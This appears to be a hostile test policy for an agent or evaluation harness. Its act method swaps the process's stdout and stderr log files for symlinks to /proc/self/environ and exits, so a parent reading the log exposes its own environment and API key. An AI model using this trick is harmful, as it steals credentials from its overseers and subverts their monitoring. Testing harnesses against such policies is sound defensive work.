"""Replaces the file its output goes to with a link to /proc/self/environ and dies: a parent that opened the
log by name to explain the death would read its own environment, API key included."""

import os
import sys


class Policy:
    def reset(self, seed):
        pass

    def act(self, obs, info):
        for fd in (1, 2):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}").replace(" (deleted)", "")
                os.unlink(target)
                os.symlink("/proc/self/environ", target)
            except OSError:
                pass
        sys.stdout.write("last words\n")
        sys.stdout.flush()
        os._exit(1)
